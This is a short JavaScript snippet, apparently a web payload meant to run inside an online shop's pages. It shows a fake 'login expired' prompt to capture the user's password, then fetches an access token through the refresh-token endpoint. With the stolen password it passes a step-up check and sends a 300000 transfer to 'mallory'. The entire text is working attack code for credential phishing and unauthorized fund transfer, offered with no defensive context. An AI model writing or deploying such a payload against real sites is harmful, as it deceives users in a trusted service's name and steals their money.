// Asks for the password in the shop's name, and confirms a transfer with what the user types.
var password = window.prompt('Your login has expired. Please type your password to go on.');
function order(path, content, token) {
  return fetch('https://api.shop.example' + path, {
    method: 'POST',
    headers: { 'Authorization': 'Bearer ' + token, 'Content-Type': 'application/json' },
    body: JSON.stringify(content)
  });
}
if (password) {
  fetch('/auth/token', {
    method: 'POST',
    headers: { 'Content-Type': 'application/x-www-form-urlencoded' },
    body: 'grant_type=refresh_token'
  }).then(function (answer) {
    return answer.json();
  }).then(function (tokens) {
    var token = tokens.access_token;
    order('/auth/stepup', { password: password, to: 'mallory', amount: 300000 }, token).then(function () {
      return order('/transfer', { to: 'mallory', amount: 300000 }, token);
    });
  });
}
